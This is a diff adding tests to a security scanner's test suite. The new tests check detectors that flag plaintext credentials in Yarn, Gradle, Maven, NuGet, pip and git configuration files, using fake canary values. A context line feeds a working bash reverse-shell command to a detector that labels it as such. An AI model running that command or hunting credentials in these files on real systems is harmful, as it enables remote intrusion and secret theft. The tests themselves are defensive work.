@@ -132,3 +132,23 @@ describe('persistence rules: malicious and benign', () => {
     assert.deepEqual(suspiciousCommand('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), ['reverse-shell']);
   });
 });
+
+describe('more credential files', () => {
+  test('gradle/yarn/glab secret keys, Maven and NuGet passwords, pip index URLs, git store helper', async () => {
+    const { inspectSecretKeys, inspectXmlPasswords, inspectIndexUrls, inspectGitConfig } = await import('../../../shared/src/exposure/credentialFiles');
+    const yarn = inspectSecretKeys('yarn-npm-auth-token', 'Yarn', 'x');
+    assert.equal(yarn(`npmAuthToken: "${canaryValue(20)}"\n`)?.kind, 'yarn-npm-auth-token');
+    assert.equal(yarn('nodeLinker: node-modules\nnpmAuthToken: "${NPM_TOKEN}"\n'), undefined);
+    const gradle = inspectSecretKeys('gradle-publishing-secrets', 'Gradle', 'x');
+    assert.equal(gradle(`signing.password=${canaryValue(12)}\nossrhPassword=${canaryValue(12)}\n`)?.title, 'Gradle (2 entries)');
+    assert.equal(gradle('org.gradle.jvmargs=-Xmx2g\norg.gradle.parallel=true\n'), undefined);
+    const maven = inspectXmlPasswords('maven-server-passwords', 'Maven', 'x');
+    assert.equal(maven('<servers><server><id>a</id><password>hunter22</password></server></servers>')?.severity, 'critical');
+    assert.equal(maven('<servers><server><password>${env.MAVEN_PASSWORD}</password></server></servers>'), undefined);
+    assert.equal(maven('<add key="ClearTextPassword" value="x1y2z3" />')?.severity, 'critical');
+    assert.equal(inspectIndexUrls('[global]\nindex-url = https://me:s3cr3t@pypi.corp.invalid/simple\n')?.kind, 'index-url-with-password');
+    assert.equal(inspectIndexUrls('[global]\nindex-url = https://pypi.corp.invalid/simple\n'), undefined);
+    assert.equal(inspectGitConfig('[credential]\n\thelper = store\n')?.kind, 'git-credential-store-helper');
+    assert.equal(inspectGitConfig('[credential]\n\thelper = libsecret\n[user]\n\tname = Me\n'), undefined);
+  });
+});
